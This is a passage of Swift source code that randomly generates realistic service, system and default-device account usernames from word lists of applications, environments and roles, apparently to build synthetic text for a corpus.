        "kafka", "mq", "worker", "cron", "sched", "scheduler", "monitor", "mon", "metrics", "log", "logs", "audit",
        "scan", "scanner", "sync", "repl", "ftp", "sftp", "files", "share", "print", "voip", "pbx", "cam", "nvr",
        "ups", "fw", "vpn", "wifi", "iot", "ci", "cd", "build", "deploy", "release", "jenkins", "git", "nexus",
        "sonar", "jira", "wiki", "confluence", "exchange", "sharepoint", "sccm", "wsus", "veeam", "vmware", "esx",
        "vcenter", "hyperv", "k8s", "docker", "registry", "vault", "consul", "nomad", "airflow", "spark", "hadoop",
        "elastic", "search", "index", "ml", "ai", "data", "dw", "bi", "tableau", "powerbi", "oracle", "pg", "mysql",
        "mongo", "redis", "rabbit", "nginx", "iis", "tomcat", "portal", "intranet", "extranet", "shop", "pay",
        "auth", "sso", "idp", "oauth", "saml", "mfa", "pki", "ca", "cert", "ntp", "snmp", "syslog", "siem", "edr",
        "av", "patch", "inventory", "asset", "helpdesk", "ticket", "crmsync", "adsync", "aad", "o365", "gsuite",
    ]
    static let envs: [String] = ["prod", "prd", "dev", "test", "tst", "qa", "uat", "stg", "stage", "staging", "dr", "int", "lab", "sandbox"]
    static let roles: [String] = ["admin", "adm", "user", "usr", "svc", "srv", "service", "sys", "ops", "op", "mgr",
                                  "manager", "agent", "bot", "runner", "reader", "writer", "ro", "rw", "owner", "dba",
                                  "maint", "backup", "sync", "deploy", "monitor", "api", "app", "sa", "root", "oper"]

    static func generated(_ random: inout CorpusRandom) -> String {
        let app = random.pick(apps), env = random.pick(envs), role = random.pick(roles)
        let num = random.weighted([(2.0, ""), (1.0, TextShape.twoDigit(random.int(in: 1...20))), (0.6, String(random.int(in: 1...9))), (0.3, "0\(TextShape.twoDigit(random.int(in: 1...20)))")])
        let sep = random.weighted([(3.0, "_"), (3.0, "-"), (1.0, "."), (1.5, "")])
        switch random.weighted([
            (5.0, 0), (3.0, 1), (3.0, 2), (2.0, 3), (2.0, 4), (2.0, 5), (1.5, 6), (1.0, 7), (1.0, 8), (1.0, 9), (1.5, 10), (0.8, 11),
        ]) {
        case 0: return "svc\(sep)\(app)\(num.isEmpty ? "" : sep + num)" // svc_backup, svc-app-01
        case 1: return "\(app)\(sep)svc\(num)" // backup_svc
        case 2: return "\(app)\(sep)\(role)\(num)" // web_admin, jenkins-runner
        case 3: return "\(app)\(role)\(num)" // webadmin, dbuser1
        case 4: return "\(random.pick(["svc", "srv", "sa", "app", "sys", "bot", "ci", "svc"]))\(sep)\(app)\(sep)\(env)\(num.isEmpty ? "" : sep + num)"
        case 5: return "\(app)\(sep)\(env)\(num.isEmpty ? "" : sep + num)" // api-prod-01
        case 6: return "\(role)\(sep)\(app)" // admin_web
        case 7: return "\(app)\(num.isEmpty ? String(random.int(in: 1...9)) : num)\(random.chance(0.5) ? "$" : "")" // machine account
        case 8: return "\(random.pick(["NT SERVICE\\", "NT AUTHORITY\\", "IIS APPPOOL\\", "", "corp\\", "CORP\\"]))\(random.chance(0.5) ? app.uppercased() : TextShape.capitalized(app))\(random.pick(["Service", "Svc", "Agent", "Pool", "$", ""]))"
        case 9: return "\(app)\(random.pick(["", "-", "_"]))\(random.pick(["daemon", "service", "server", "bot", "agent", "worker", "account"]))"
        case 10:
            // Legacy uppercase system accounts: short mnemonic + SYS/ADM/OPR/…
            let stem = String(app.uppercased().prefix(random.int(in: 2...6)))
            let tail = random.pick(["SYS", "ADM", "ADMIN", "OPR", "OPER", "USER", "MGR", "DBA", "SVC", "SRV", "MAINT", "SEC", "SUP", "PGM", "1", "01", "_ADMIN", "_USER", "_SYS", ""])
            return random.chance(0.2) ? "\(tail.replacingUnderscore())\(stem)" : "\(stem)\(tail)"
        default: return "\(app)\(sep)\(random.pick(["ro", "rw", "read", "write", "etl", "sync", "loader", "reader"]))"
        }
    }

    static func service(_ random: inout CorpusRandom) -> String {
        switch random.weighted([(5.0, 0), (5.0, 1), (0.8, 2), (0.8, 3), (0.6, 4), (0.8, 5), (1.2, 6), (1.5, 7), (0.4, 8)]) {
        case 0:
            var text = random.pick(accounts)
            switch random.weighted([(55.0, 0), (12.0, 1), (28.0, 2), (5.0, 3)]) {
            case 1: text = TextShape.capitalized(text)
            case 2: text = text.uppercased()
            case 3: text += random.pick(["1", "01", "2", "123", "0", "_1", "$"])
            default: break
            }
            return text
        case 1:
            let text = generated(&random)
            return random.chance(0.3) ? text.uppercased() : text
        case 2:
            // Hostname-based and vendor-style default accounts: HOST01$, admin@host, root@localhost.
            return random.weighted([
                (1.0, "\(random.pick(["WEB", "DB", "APP", "SRV", "DC", "FS", "EXCH", "SQL", "PC", "WS", "LAPTOP"]))\(random.chance(0.5) ? "-" : "")\(TextShape.twoDigit(random.int(in: 1...40)))$"),
                (0.6, "\(random.pick(["root", "admin", "sa", "postgres"]))@\(random.pick(["localhost", "127.0.0.1", "%", "db01", "host"]))"),
                (0.6, "\(random.pick(["admin", "root", "user", "guest", "super"]))\(random.pick(["", "_", "-"]))\(random.pick(apps))"),
            ])
        case 4:
            // How default-credential tables and logs write a missing or wildcard user name.
            return random.pick(["(none)", "<none>", "(blank)", "<blank>", "(null)", "NULL", "null", "none", "n/a", "N/A",
                                "(any)", "any", "*", "(unknown)", "unknown", "<empty>", "(empty)", "nil", "-", "(default)",
                                "<user>", "<username>", "(any user)", "anonymous", "ANONYMOUS", "(anonymous)"])
        case 5:
            // Vendor- or product-style names used as the default account of a device: NetLinx, Telestar, Xenon-3.
            let first = TextShape.capitalized(random.pick(["net", "tel", "link", "data", "micro", "tech", "com", "sys",
                                                           "info", "media", "digi", "cyber", "omni", "poly", "inter",
                                                           "ultra", "power", "smart", "secure", "cam", "vox", "radi"]))
            let second = random.pick(["Link", "Linx", "Star", "Net", "Ware", "Soft", "Tek", "Com", "Box", "Gate", "Works",
                                      "View", "Max", "Pro", "One", "Labs", "Stor", "Sys", "Vision", "Wave", "Point"])
            var text = random.chance(0.6) ? first + second : first + second.lowercased()
            if random.chance(0.2) { text = text.uppercased() }
            if random.chance(0.2) { text += random.pick(["-\(random.int(in: 1...9))", "\(random.int(in: 1...99))", "Admin", "User", "-ISDN", "IP"]) }
            return text
        case 6:
            // Short mnemonic system names: consonant-heavy abbreviations (nms, bcms, rje), sometimes numbered.
            let consonants = Array("bcdfghjklmnprstvwxz"), vowels = Array("aeiou")
            var text = ""
            for i in 0..<random.int(in: 2...5) {
                text.append(i > 0 && random.chance(0.2) ? random.pick(vowels) : random.pick(consonants))
            }
            if random.chance(0.25) { text += random.pick(["adm", "op", "sys", "mgr", "ctl", "cfg", "mon", "srv", "db"]) }
            if random.chance(0.2) { text += String(random.int(in: 1...9)) }
            return random.chance(0.25) ? text.uppercased() : text
        case 7:
            // A function, department or system word used as a shared account: accounting, viewer, kiosk.
            let text = random.pick(functionWords)
            return random.weighted([(6.0, text), (1.5, text.uppercased()), (1.0, TextShape.capitalized(text)),
                                    (1.0, text + random.pick(["1", "2", "01", "_1", "user", "admin", "-ro"]))])
        case 8:
            // Numeric account ids of devices and phone systems (1, 30, 101).
            return String(random.weighted([(2.0, random.int(in: 0...9)), (2.0, random.int(in: 10...99)), (1.0, random.int(in: 100...999))]))
        default:
            // Initials of a product or vendor with a role: ABCadmin, XYZ_OPER, NETOP.
            let letters = Array("ABCDEFGHIJKLMNOPQRSTUVWXYZ")
            let stem = String((0..<random.int(in: 2...4)).map { _ in random.pick(letters) })
            let role = random.pick(["admin", "ADMIN", "adm", "ADM", "OPER", "op", "user", "USER", "SYS", "sys", "mgr", "MAINT", "sup"])
            return random.chance(0.5) ? stem + role : stem.lowercased() + role.lowercased()
        }
    }
}

private extension String {
    func replacingUnderscore() -> String { filter { $0 != "_" } }
}
